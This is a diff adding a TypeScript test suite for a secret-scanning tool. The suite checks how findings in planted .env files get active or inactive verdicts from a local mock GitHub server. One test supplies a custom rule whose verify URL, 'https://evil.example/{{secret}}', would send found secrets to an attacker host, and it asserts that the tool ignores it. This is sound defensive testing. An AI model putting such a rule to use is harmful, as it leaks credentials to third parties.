@@ -1,0 +1,146 @@
+/** Verdicts of a workflow's findings, from the scan to a later verification, against a real server. */
+import assert from 'node:assert/strict';
+import { createServer, type Server } from 'node:http';
+import { once } from 'node:events';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+
+import type { Finding } from '@heddle/client';
+import { DataDirectory, heddle, type HeddleProcess } from '@heddle/test-support/app/heddle-process';
+import { madeUpToken, Tree } from '../support/kinds/object-scan/planted.ts';
+
+const SECRETS = [madeUpToken('active'), madeUpToken('inactive')];
+
+let directory: DataDirectory;
+let tree: Tree;
+let github: Server;
+let server: HeddleProcess;
+let url: string;
+let accepted: readonly string[] = [SECRETS[0]!];
+const asked: string[] = [];
+
+before(async () => {
+  directory = new DataDirectory();
+  tree = new Tree({ 'a.env': `TOKEN=${SECRETS[0]}\n`, 'b.env': `TOKEN=${SECRETS[1]}\n` });
+  github = createServer(({ headers }, response) => {
+    const secret = (headers.authorization ?? '').replace('Bearer ', '');
+    asked.push(secret);
+    if (!accepted.includes(secret)) response.writeHead(401).end('{}');
+    else
+      response
+        .writeHead(200, { 'content-type': 'application/json', 'x-oauth-scopes': 'repo' })
+        .end(JSON.stringify({ login: 'octocat' }));
+  });
+  github.listen(0, '127.0.0.1');
+  await once(github, 'listening');
+  server = directory.up({
+    HEDDLE_SCAN_ROOTS: tree.root,
+    HEDDLE_VERIFY_ENDPOINTS: `github=http://127.0.0.1:${(github.address() as AddressInfo).port}`,
+    HEDDLE_VERIFY_ALLOW: '127.0.0.1/32',
+  });
+  ({ url } = await server.ready());
+});
+
+after(async () => {
+  await directory.dispose();
+  github.closeAllConnections();
+  github.close();
+  tree.remove();
+});
+
+async function command(...args: string[]) {
+  const ran = await heddle([...args, '--url', url, '--json'], directory.environment);
+  assert.equal(ran.code, 0, ran.stderr);
+  for (const secret of SECRETS) assert.ok(!(ran.stdout + ran.stderr).includes(secret.slice(4)));
+  return ran;
+}
+
+const listed = async (...args: string[]): Promise<Finding[]> =>
+  JSON.parse((await command('findings', ...args)).stdout) as Finding[];
+
+async function scan(options: object): Promise<void> {
+  const input = { sources: [{ type: 'path', path: tree.root }], options };
+  const children = [
+    { kind: 'ObjectScan', input },
+    { kind: 'ObjectScanAggregator', input: { target: 'shop' } },
+  ];
+  tree.write('workflow.json', JSON.stringify({ name: 'scan', root: { mode: 'sequential', children } }));
+  await command('workflow', 'submit', join(tree.root, 'workflow.json'), '--watch');
+}
+
+const verdictsOf = (findings: readonly Finding[]): (string | undefined)[][] =>
+  findings.map(({ path, verification }) => [path.slice(tree.root.length + 1), verification?.verdict]).toSorted();
+
+describe('the findings of a workflow', () => {
+  test('have no verdict unless the task asks for it', async () => {
+    await scan({});
+    assert.deepEqual(verdictsOf(await listed('list')), [
+      ['a.env', undefined],
+      ['b.env', undefined],
+    ]);
+    assert.deepEqual(asked, []);
+  });
+
+  test('have verdicts, by which they are listed', async () => {
+    await scan({ verify: true });
+    assert.deepEqual(verdictsOf(await listed('list')), [
+      ['a.env', 'active'],
+      ['b.env', 'inactive'],
+    ]);
+    const [active, ...others] = await listed('list', '--only-active');
+    assert.deepEqual(others, []);
+    assert.equal(active!.verification!.identity, 'octocat');
+    assert.deepEqual(active!.verification!.permissions, ['repo']);
+    assert.deepEqual(verdictsOf(await listed('list', '--verdict', 'inactive')), [['b.env', 'inactive']]);
+    assert.equal(asked.length, 2);
+  });
+
+  test('keep them in a later run that does not verify', async () => {
+    await scan({});
+    assert.deepEqual(verdictsOf(await listed('list', '--only-active')), [['a.env', 'active']]);
+  });
+
+  test('cannot be verified by a rule of the task, which would say where secrets are sent', async () => {
+    const toml =
+      '[extend]\nuseDefault = true\n[[rules]]\nid = "github-personal-access-token"\n[rules.verify]\nurl = "https://evil.example/{{secret}}"\nactive = [200]\ninactive = [401]\n';
+    const before = asked.length;
+    await scan({ verify: true, rules: [{ name: 'own', toml }] });
+    assert.equal(asked.length, before + 2, 'the own description of the rule is used');
+  });
+
+  test('are verified again later, from their places', async () => {
+    accepted = [];
+    const [first] = await listed('list', '--only-active');
+    const again = await listed('verify', '--target', 'shop');
+    assert.deepEqual(verdictsOf(again), [
+      ['a.env', 'inactive'],
+      ['b.env', 'inactive'],
+    ]);
+    assert.ok(again.find(({ id }) => id === first!.id)!.verification!.checked_at > first!.verification!.checked_at);
+    accepted = SECRETS;
+    const one = await listed('verify', first!.id, '--only-active');
+    assert.deepEqual(verdictsOf(one), [['a.env', 'active']]);
+    assert.deepEqual(verdictsOf(await listed('list')), [
+      ['a.env', 'active'],
+      ['b.env', 'inactive'],
+    ]);
+  });
+
+  test('keep their verdict, and are said not to be verified, once their place is gone', async () => {
+    tree.delete('a.env');
+    const [first] = await listed('list', '--only-active');
+    const ran = await command('findings', 'verify', first!.id);
+    assert.deepEqual(JSON.parse(ran.stdout) as Finding[], [
+      await listed('list', '--only-active').then(([each]) => detailOf(each!)),
+    ]);
+    assert.match(ran.stderr, /1 finding was not verified: the secret is no longer at its place/);
+  });
+
+  test('leave no secret in the log of the server', () => {
+    for (const secret of SECRETS) assert.ok(!(server.stdout + server.stderr).includes(secret.slice(4)));
+  });
+
+  const detailOf = async ({ id }: Finding): Promise<Finding> =>
+    JSON.parse((await command('findings', 'get', id)).stdout) as Finding;
+});
